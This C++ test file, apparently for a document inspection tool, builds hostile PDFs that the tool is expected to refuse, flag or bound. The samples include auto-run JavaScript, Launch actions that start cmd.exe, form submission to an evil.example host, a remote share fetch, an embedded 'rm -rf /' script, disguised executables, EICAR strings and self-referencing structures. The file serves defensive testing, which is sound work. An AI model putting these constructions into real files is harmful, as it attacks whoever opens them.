// PDF files that run, open, send or hide something.
#include "corpus.h"
#include "document/inspect/made_pdf.h"
#include "document/inspect/made_zip.h"

namespace millrace::hostile {

using namespace document;

namespace {

constexpr std::string_view kScript = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

MadePdf one_page() {
  MadePdf pdf;
  pdf.page();
  return pdf;
}

std::string with_catalog(std::string_view extra) {
  auto pdf = one_page();
  return pdf.catalog(extra).bytes();
}

std::string with_object(std::string body) {
  auto pdf = one_page();
  pdf.add(std::move(body));
  return pdf.bytes();
}

std::string hex(std::string_view bytes) {
  std::string text;
  for (const char c : bytes) text += fmt::format("{:02x}", static_cast<unsigned char>(c));
  return text + ">";
}

std::string embedded(std::string content, std::string_view name = "a.bin") {
  auto pdf = one_page();
  const auto stream =
      pdf.add(pdf_stream("/Type /EmbeddedFile /Filter /FlateDecode", deflated(content)));
  pdf.add(fmt::format("<< /Type /Filespec /F ({}) /EF << /F {} 0 R >> >>", name, stream));
  return pdf.bytes();
}

}  // namespace

Corpus pdf_actions() {
  Corpus corpus;
  const auto add = [&](std::string name, std::string rule, std::function<std::string()> make,
                       Expect expect = Expect::refused) {
    corpus.push_back({.name = "pdf: " + name,
                      .expect = expect,
                      .rule = std::move(rule),
                      .make = std::move(make)});
  };
  add("script at opening", "pdf_javascript",
      [] { return with_catalog(fmt::format("/OpenAction {}", kScript)); });
  add("script by reference", "pdf_javascript", [] {
    auto pdf = one_page();
    pdf.set(50, std::string(kScript));
    return pdf.catalog("/OpenAction 50 0 R").bytes();
  });
  add("script in a stream", "pdf_javascript", [] {
    auto pdf = one_page();
    pdf.set(50, pdf_stream("", "app.alert(1)"));
    return pdf.catalog("/OpenAction << /S /JavaScript /JS 50 0 R >>").bytes();
  });
  add("script with escaped names", "pdf_javascript",
      [] { return with_catalog("/Open#41ction << /#53 /Java#53cript /J#53 (x) >>"); });
  add("script by name", "pdf_javascript", [] {
    return with_catalog(fmt::format("/Names << /JavaScript << /Names [(x) {}] >> >>", kScript));
  });
  add("script at closing", "pdf_javascript",
      [] { return with_catalog(fmt::format("/AA << /WC {} >>", kScript)); });
  add("script of a page", "pdf_javascript", [] {
    MadePdf pdf;
    return pdf.page("x", fmt::format("/AA << /O {} >>", kScript)).bytes();
  });
  add("script of an annotation that becomes visible", "pdf_javascript", [] {
    return with_object(
        fmt::format("<< /Type /Annot /Subtype /Widget /AA << /PV {} >> >>", kScript));
  });
  add("script at the end of a chain", "pdf_javascript", [] {
    return with_catalog(fmt::format(
        "/OpenAction << /S /GoTo /D [4 0 R] /Next << /S /Named /N /NextPage /Next [{}] >> >>",
        kScript));
  });
  add(
      "chain of actions that bites its tail", "",
      [] {
        auto pdf = one_page();
        pdf.set(50, "<< /S /GoTo /D [4 0 R] /Next [50 0 R 51 0 R] >>")
            .set(51, "<< /S /GoTo /D [4 0 R] /Next 50 0 R >>");
        return pdf.catalog("/OpenAction 50 0 R").bytes();
      },
      Expect::bounded);
  add(
      "outlines in a circle", "",
      [] {
        auto pdf = one_page();
        pdf.set(50, "<< /First 51 0 R /Last 51 0 R /Count 2000000000 >>")
            .set(51, "<< /Title (x) /Next 51 0 R /Prev 51 0 R /First 50 0 R >>");
        return pdf.catalog("/Outlines 50 0 R").bytes();
      },
      Expect::bounded);
  add(
      "names in a circle", "",
      [] {
        auto pdf = one_page();
        pdf.set(50, "<< /Kids [50 0 R 50 0 R] >>");
        return pdf.catalog("/Names << /EmbeddedFiles 50 0 R /Dests 50 0 R >>").bytes();
      },
      Expect::bounded);
  add(
      "fields in a circle", "",
      [] {
        auto pdf = one_page();
        pdf.set(50, "<< /T (x) /Kids [50 0 R] /Parent 50 0 R >>");
        return pdf.catalog("/AcroForm << /Fields [50 0 R] >>").bytes();
      },
      Expect::bounded);
  add(
      "script of a field", "pdf_javascript",
      [] { return with_object(fmt::format("<< /FT /Tx /AA << /K {} >> >>", kScript)); },
      Expect::flagged);
  add("program that is started", "pdf_launch",
      [] { return with_catalog("/OpenAction << /S /Launch /F (cmd.exe) >>"); });
  add("program behind a link", "pdf_launch", [] {
    return with_object(
        "<< /Type /Annot /Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> "
        ">>");
  });
  add("document from a share at opening", "pdf_remote_action", [] {
    return with_catalog("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0 /Fit] >>");
  });
  add("form that is sent at opening", "pdf_remote_action",
      [] { return with_catalog("/OpenAction << /S /SubmitForm /F (https://evil.example) >>"); });
  add(
      "form that is sent by hand", "pdf_remote_action",
      [] { return with_object("<< /S /SubmitForm /F (x) >>"); }, Expect::flagged);
  add(
      "XFA form", "pdf_xfa", [] { return with_catalog("/AcroForm << /XFA [(template) 4 0 R] >>"); },
      Expect::flagged);
  add(
      "film", "pdf_rich_media",
      [] { return with_object("<< /Type /Annot /Subtype /RichMedia >>"); }, Expect::flagged);
  add("embedded Windows program", "embedded_executable",
      [] { return embedded("MZ\x90 and so on"); });
  add("embedded Linux program", "embedded_executable", [] {
    return embedded(
        "\x7f"
        "ELF\x02\x01\x01");
  });
  add("embedded script", "embedded_executable", [] { return embedded("#!/bin/sh\nrm -rf /"); });
  add("embedded file with the name of a program", "embedded_executable",
      [] { return embedded("text", "invoice.pdf.exe"); });
  add("embedded archive with a program", "embedded_executable",
      [] { return embedded(MadeZip().add("setup.exe", "x").bytes()); });
  add("embedded archives without end", "archive_depth", [] {
    std::string zip = "x";
    for (int i = 0; i < 8; ++i) zip = MadeZip().add("a", zip).bytes();
    return embedded(zip);
  });
  add(
      "embedded file of noise", "pdf_embedded_file", [] { return embedded(noise(21, 100'000)); },
      Expect::flagged);
  add("test virus as it is", "eicar_test_file",
      [] { return with_object(pdf_stream("", eicar())); });
  add("test virus, packed", "eicar_test_file",
      [] { return with_object(pdf_stream("/Filter /FlateDecode", deflated(eicar()))); });
  add("test virus, packed twice", "eicar_test_file", [] {
    return with_object(
        pdf_stream("/Filter [/FlateDecode /FlateDecode]", deflated(deflated(eicar()))));
  });
  add("test virus in hexadecimal", "eicar_test_file",
      [] { return with_object(pdf_stream("/Filter /ASCIIHexDecode", hex(eicar()))); });
  add("test virus in hexadecimal, packed", "eicar_test_file", [] {
    return with_object(
        pdf_stream("/Filter [/FlateDecode /ASCIIHexDecode]", deflated(hex(eicar()))));
  });
  add("test virus embedded", "eicar_test_file", [] { return embedded(eicar()); });
  add("test virus in an embedded archive", "eicar_test_file",
      [] { return embedded(MadeZip().add("x.com.txt", eicar()).bytes()); });
  add("test virus behind the end", "eicar_test_file", [] { return one_page().bytes() + eicar(); });
  add("password", "encrypted", [] {
    auto pdf = one_page();
    pdf.trailer =
        "/ID [(0123456789abcdef) (0123456789abcdef)] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 "
        "/O <" +
        std::string(64, '4') + "> /U <" + std::string(64, '5') + "> >>";
    return pdf.bytes();
  });
  add("encryption of nonsense", "", [] {
    auto pdf = one_page();
    pdf.trailer =
        "/Encrypt << /Filter /Standard /V 99 /R 99 /Length 2000000000 /O () /U () /P 0 >>";
    return pdf.bytes();
  });
  add("encryption that is its own key", "", [] {
    auto pdf = one_page();
    pdf.trailer = "/Encrypt 50 0 R";
    return pdf.set(50, "<< /Filter 50 0 R /V 50 0 R >>").bytes();
  });
  return corpus;
}

}  // namespace millrace::hostile
